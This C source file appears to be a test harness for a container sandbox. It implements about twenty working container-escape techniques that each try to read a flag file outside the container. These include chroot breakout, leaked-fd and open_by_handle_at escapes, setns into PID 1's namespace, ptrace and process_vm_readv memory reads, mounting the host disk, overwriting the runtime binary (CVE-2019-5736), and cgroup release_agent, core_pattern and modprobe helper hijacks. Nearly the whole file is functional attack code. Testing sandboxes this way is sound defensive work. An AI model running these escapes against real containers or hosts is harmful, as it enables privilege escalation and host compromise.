// SPDX-License-Identifier: Apache-2.0
// Ways out of a container, written from what is public about them: each tries to come by a flag that lies outside (C22). In the naive
// container of attacks.test.ts every one of them succeeds.
//
//   escapes TRICK ARG [TRICK ARG]...     one line each: TRICK ARG ok|ERRNO; what was read of a flag is printed behind a #
//   escapes handle-of PATH               what the trick `handle` needs to know
//   escapes keep-key TEXT                puts a key where the trick `keyring` looks
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define FLAG "/run/flag"
#define MARK "FLAG{"

static int is_flag(const char *text, size_t n) {
  const char *at = memmem(text, n, MARK, strlen(MARK));
  if (at == NULL) {
    errno = ENODATA;
    return -1;
  }
  printf("# %.18s\n", at);
  fflush(stdout);
  return 0;
}

static int shows_flag(int fd) {
  if (fd < 0) return -1;
  char text[4096];
  ssize_t n = read(fd, text, sizeof text);
  int e = errno;
  close(fd);
  errno = e;
  return n < 0 ? -1 : is_flag(text, (size_t)n);
}

static int put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t n = write(fd, text, strlen(text));
  int e = errno;
  close(fd);
  errno = e;
  return n < 0 ? -1 : 0;
}

// What a program of the kernel's starting left for us.
static int helper_was_here(void) {
  for (int i = 0; i < 50; i++) {
    int fd = open("/tmp/got", O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
      usleep(200 * 1000);
      unlink("/tmp/got");
      return shows_flag(fd);
    }
    usleep(100 * 1000);
  }
  errno = ETIME;
  return -1;
}

// `what` of each process but this one, until one succeeds; the first refusal else, or ESRCH where nobody else is seen.
static int of_others(int (*what)(pid_t pid)) {
  DIR *proc = opendir("/proc");
  if (proc == NULL) return -1;
  int refusal = ESRCH;
  for (struct dirent *e; (e = readdir(proc)) != NULL;) {
    pid_t pid = atoi(e->d_name);
    if (pid <= 0 || pid == getpid() || pid == getppid()) continue;
    if (what(pid) == 0) {
      closedir(proc);
      return 0;
    }
    if (refusal == ESRCH) refusal = errno;
  }
  closedir(proc);
  errno = refusal;
  return -1;
}

static int open_of(pid_t pid, const char *name, int flags) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  return open(path, flags | O_CLOEXEC);
}

// --- the file system

// CVE-less and old: who may chroot twice is out of the first.
static int trick_chroot(const char *arg) {
  (void)arg;
  int top = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (top < 0 || (mkdir("/tmp/jail", 0700) < 0 && errno != EEXIST) || chroot("/tmp/jail") < 0 || fchdir(top) < 0) return -1;
  for (int i = 0; i < 64; i++) if (chdir("..") < 0) return -1;
  if (chroot(".") < 0) return -1;
  return shows_flag(open(FLAG, O_RDONLY));
}

static int root_of(pid_t pid) { return shows_flag(open_of(pid, "root" FLAG, O_RDONLY)); }
static int trick_proc_root(const char *arg) { return (void)arg, of_others(root_of); }

static int files_of(pid_t pid) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *held = opendir(path);
  if (held == NULL) return -1;
  int r = -1;
  for (struct dirent *e; r < 0 && (e = readdir(held)) != NULL;) {
    if (!isdigit((unsigned char)e->d_name[0])) continue;
    char name[300];
    snprintf(name, sizeof name, "fd/%s", e->d_name);
    // Whoever reads another's pipe takes what is in it: the lock of a program's threads, say.
    struct stat s;
    snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, e->d_name);
    if (stat(path, &s) < 0 || !S_ISREG(s.st_mode)) continue;
    r = shows_flag(open_of(pid, name, O_RDONLY | O_NONBLOCK));
  }
  closedir(held);
  if (r < 0) errno = ENODATA;
  return r;
}
static int trick_proc_fd(const char *arg) { return (void)arg, of_others(files_of); }

// CVE-2024-21626: a directory of the host's that stayed open, or is the working directory.
static int trick_leaked_fd(const char *arg) {
  (void)arg;
  errno = EBADF;
  for (int fd = 0; fd < 256; fd++) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    const char *ways[] = {"run/flag", "../run/flag", "../../run/flag", "../../../../../../run/flag"};
    for (int i = 0; i < 4; i++) if (shows_flag(openat(fd, ways[i], O_RDONLY)) == 0) return 0;
  }
  return shows_flag(open("/proc/self/cwd/../../../../../../../run/flag", O_RDONLY));
}

// The way out of early Docker: a file by its handle, past every directory.
static int trick_handle(const char *arg) {
  struct {
    struct file_handle h;
    unsigned char bytes[128];
  } handle = {0};
  unsigned int type = 0, n = 0;
  if (sscanf(arg, "%u:", &type) != 1) return -1;
  for (const char *at = strchr(arg, ':') + 1; *at != '\0' && at[1] != '\0'; at += 2) {
    unsigned int byte;
    sscanf(at, "%2x", &byte);
    handle.h.f_handle[n++] = (unsigned char)byte;
  }
  handle.h.handle_type = (int)type;
  handle.h.handle_bytes = n;
  int beside = open("/workspace", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (beside < 0) return -1;
  return shows_flag(open_by_handle_at(beside, &handle.h, O_RDONLY));
}

static int handle_of(const char *path) {
  struct {
    struct file_handle h;
    unsigned char bytes[128];
  } handle = {.h.handle_bytes = 128};
  int mount;
  if (name_to_handle_at(AT_FDCWD, path, &handle.h, &mount, 0) < 0) return 1;
  printf("%d:", handle.h.handle_type);
  for (unsigned int i = 0; i < handle.h.handle_bytes; i++) printf("%02x", handle.h.f_handle[i]);
  puts("");
  return 0;
}

static int trick_tree(const char *arg) {
  (void)arg;
  int tree = (int)syscall(SYS_open_tree, AT_FDCWD, "/proc/1/root/run", 1);
  return tree < 0 ? -1 : shows_flag(openat(tree, "flag", O_RDONLY));
}

static int trick_mount(const char *arg) {
  if (mkdir(arg, 0755) < 0 && errno != EEXIST) return -1;
  return mount("none", arg, "tmpfs", 0, NULL);
}

// The disk by its number, in a device node of one's own.
static int trick_disk(const char *arg) {
  unsigned int major_number, minor_number;
  if (sscanf(arg, "%u:%u", &major_number, &minor_number) != 2) return -1;
  if ((mkdir("/tmp/disk", 0700) < 0 && errno != EEXIST) || mknod("/tmp/disk.dev", S_IFBLK | 0600, makedev(major_number, minor_number)) < 0) return -1;
  if (mount("/tmp/disk.dev", "/tmp/disk", "xfs", 0, NULL) < 0) return -1;
  return shows_flag(open("/tmp/disk/flag", O_RDONLY));
}

static int trick_raw_disk(const char *arg) {
  char magic[4];
  int fd = open(arg, O_RDONLY | O_CLOEXEC);
  if (fd < 0 || read(fd, magic, 4) != 4) return -1;
  return memcmp(magic, "XFSB", 4) == 0 ? 0 : -1;
}

// --- other processes

static int environment_of(pid_t pid) { return shows_flag(open_of(pid, "environ", O_RDONLY)); }
static int trick_environ(const char *arg) { return (void)arg, of_others(environment_of); }

// Where its environment lies.
static unsigned long stack_of(pid_t pid, size_t *size) {
  int fd = open_of(pid, "maps", O_RDONLY);
  if (fd < 0) return 0;
  FILE *maps = fdopen(fd, "r");
  char line[512];
  unsigned long from = 0, to = 0;
  while (fgets(line, sizeof line, maps) != NULL) if (strstr(line, "[stack]") != NULL) sscanf(line, "%lx-%lx", &from, &to);
  fclose(maps);
  errno = from == 0 ? ENODATA : 0;
  *size = to - from;
  return from;
}

static char memory[1 << 20];

static int memory_of(pid_t pid) {
  size_t size;
  unsigned long from = stack_of(pid, &size);
  if (from == 0) return -1;
  if (size > sizeof memory) size = sizeof memory;
  struct iovec here = {memory, size}, there = {(void *)from, size};
  ssize_t n = process_vm_readv(pid, &here, 1, &there, 1, 0);
  return n < 0 ? -1 : is_flag(memory, (size_t)n);
}
static int trick_memory(const char *arg) { return (void)arg, of_others(memory_of); }

static int traced(pid_t pid) {
  if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) return -1;
  waitpid(pid, NULL, __WALL);
  size_t size = 0, n = 0;
  unsigned long from = stack_of(pid, &size);
  size_t last = size > 16384 ? 16384 : size;
  for (; n + 8 <= last; n += 8) {
    long word = ptrace(PTRACE_PEEKDATA, pid, from + size - last + n, 0);
    memcpy(memory + n, &word, 8);
  }
  ptrace(PTRACE_DETACH, pid, 0, 0);
  return is_flag(memory, n);
}
// Only of one's own user: root would stop the whole machine.
static int traced_victim(pid_t pid) {
  char path[64], name[32] = "";
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0 && read(fd, name, sizeof name - 1) > 0 && strncmp(name, "sleep", 5) != 0 && getuid() == 0) return errno = ENODATA, -1;
  if (fd >= 0) close(fd);
  return traced(pid);
}
static int trick_ptrace(const char *arg) { return (void)arg, of_others(traced_victim); }

static int trick_setns(const char *arg) {
  (void)arg;
  int ns = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
  if (ns < 0 || setns(ns, CLONE_NEWNS) < 0) return -1;
  return shows_flag(open(FLAG, O_RDONLY));
}

static int trick_pidfd(const char *arg) {
  (void)arg;
  int init = (int)syscall(SYS_pidfd_open, 1, 0);
  if (init < 0 || setns(init, CLONE_NEWNS) < 0) return -1;
  return shows_flag(open(FLAG, O_RDONLY));
}

// CVE-2019-5736: the program of whoever entered, held until it has ended, then written.
static char held[512][32];
static int programs;

static int hold_program(pid_t pid) {
  int fd = open_of(pid, "exe", O_PATH);
  if (fd >= 0 && programs < 512) snprintf(held[programs++], sizeof held[0], "/proc/self/fd/%d", fd);
  if (fd >= 0) errno = EROFS;
  return -1;
}

static int trick_exe(const char *arg) {
  (void)arg;
  of_others(hold_program);
  int first = errno;
  for (int i = 0; programs > 0 && i < 80; i++, usleep(100 * 1000)) {
    for (int p = 0; p < programs; p++) {
      int fd = open(held[p], O_WRONLY | O_CLOEXEC);
      if (fd >= 0) return close(fd);
      if (errno != ETXTBSY) first = errno;
    }
  }
  errno = first;
  return -1;
}

static int trick_keyring(const char *arg) {
  (void)arg;
  char text[64] = "";
  long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", "flag", 0);
  if (key < 0) return -1;
  long n = syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text, 0);
  return n < 0 ? -1 : is_flag(text, (size_t)n);
}

// For every process of its user to read. Only who possesses a key sets that: by a session of its own in which the user's keyring is.
static int keep_key(const char *text) {
  if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL, 0, 0, 0) < 0) return 1;
  if (syscall(SYS_keyctl, KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING, 0, 0) < 0) return 1;
  long key = syscall(SYS_add_key, "user", "flag", text, strlen(text), KEY_SPEC_USER_KEYRING);
  return key < 0 || syscall(SYS_keyctl, KEYCTL_SETPERM, key, 0x3f3f0000, 0, 0) < 0;
}

// --- the kernel starts programs, as root and outside of everything

static int trick_release_agent(const char *helper) {
  if ((mkdir("/tmp/groups", 0700) < 0 && errno != EEXIST) || mount("none", "/tmp/groups", "cgroup", 0, "none,name=flag") < 0) return -1;
  int r = mkdir("/tmp/groups/one", 0700) < 0 && errno != EEXIST ? -1 : 0;
  if (r == 0) r = put("/tmp/groups/release_agent", helper);
  if (r == 0) r = put("/tmp/groups/one/notify_on_release", "1");
  pid_t child = r == 0 ? fork() : -1;
  if (child == 0) _exit(put("/tmp/groups/one/cgroup.procs", "0") == 0 ? 0 : 1);
  if (child > 0) waitpid(child, NULL, 0);
  if (r == 0) r = helper_was_here();
  int e = errno;
  rmdir("/tmp/groups/one");
  umount("/tmp/groups");
  errno = e;
  return r;
}

static int trick_core_pattern(const char *helper) {
  char line[200];
  snprintf(line, sizeof line, "|%s", helper);
  if (put("/proc/sys/kernel/core_pattern", line) < 0) return -1;
  pid_t child = fork();
  if (child == 0) abort();
  if (child > 0) waitpid(child, NULL, 0);
  return helper_was_here();
}

static int trick_modprobe(const char *helper) {
  if (put("/proc/sys/kernel/modprobe", helper) < 0) return -1;
  close(socket(AF_APPLETALK, SOCK_DGRAM, 0));
  return helper_was_here();
}

// --- sockets of those who may do more

static int ask(const struct sockaddr_un *a, socklen_t length) {
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0 || connect(fd, (const struct sockaddr *)a, length) < 0 || write(fd, FLAG "\n", strlen(FLAG) + 1) < 0) return -1;
  return shows_flag(fd);
}

static int trick_socket(const char *path) {
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path, path, sizeof a.sun_path - 1);
  return ask(&a, sizeof a);
}

// CVE-2020-15257: a name of no file, in a network namespace that is shared.
static int trick_abstract(const char *name) {
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path + 1, name, sizeof a.sun_path - 2);
  return ask(&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)));
}

static const struct {
  const char *name;
  int (*run)(const char *arg);
} tricks[] = {
    {"chroot", trick_chroot},   {"proc-root", trick_proc_root}, {"proc-fd", trick_proc_fd},   {"leaked-fd", trick_leaked_fd},
    {"handle", trick_handle},   {"tree", trick_tree},           {"mount", trick_mount},
    {"disk", trick_disk},       {"raw-disk", trick_raw_disk},   {"environ", trick_environ},   {"memory", trick_memory},
    {"ptrace", trick_ptrace},   {"setns", trick_setns},         {"pidfd", trick_pidfd},       {"exe", trick_exe},
    {"keyring", trick_keyring}, {"socket", trick_socket},       {"abstract", trick_abstract}, {"release-agent", trick_release_agent},
    {"core-pattern", trick_core_pattern}, {"modprobe", trick_modprobe},
};

// Each in a process of its own: some change where they are.
static int attempt(int (*run)(const char *), const char *arg) {
  int p[2];
  if (pipe2(p, O_CLOEXEC) < 0) return errno;
  pid_t child = fork();
  if (child < 0) return errno;
  if (child == 0) {
    alarm(20);
    errno = 0;
    int e = run(arg) == 0 ? 0 : errno == 0 ? EIO : errno;
    if (write(p[1], &e, sizeof e) < 0) _exit(1);
    _exit(0);
  }
  close(p[1]);
  int e = EIO, status;
  if (read(p[0], &e, sizeof e) != (ssize_t)sizeof e) e = ENOTRECOVERABLE;
  close(p[0]);
  waitpid(child, &status, 0);
  return e;
}

int main(int argc, char **argv) {
  if (argc == 3 && !strcmp(argv[1], "handle-of")) return handle_of(argv[2]);
  if (argc == 3 && !strcmp(argv[1], "keep-key")) return keep_key(argv[2]);
  setvbuf(stdout, NULL, _IOLBF, 0);
  for (int i = 1; i + 1 < argc; i += 2) {
    size_t t = 0, n = sizeof tricks / sizeof *tricks;
    while (t < n && strcmp(argv[i], tricks[t].name) != 0) t++;
    if (t == n) return 64;
    int e = attempt(tricks[t].run, argv[i + 1]);
    printf("%s %s %s\n", argv[i], argv[i + 1], e == 0 ? "ok" : strerrorname_np(e));
  }
  return 0;
}
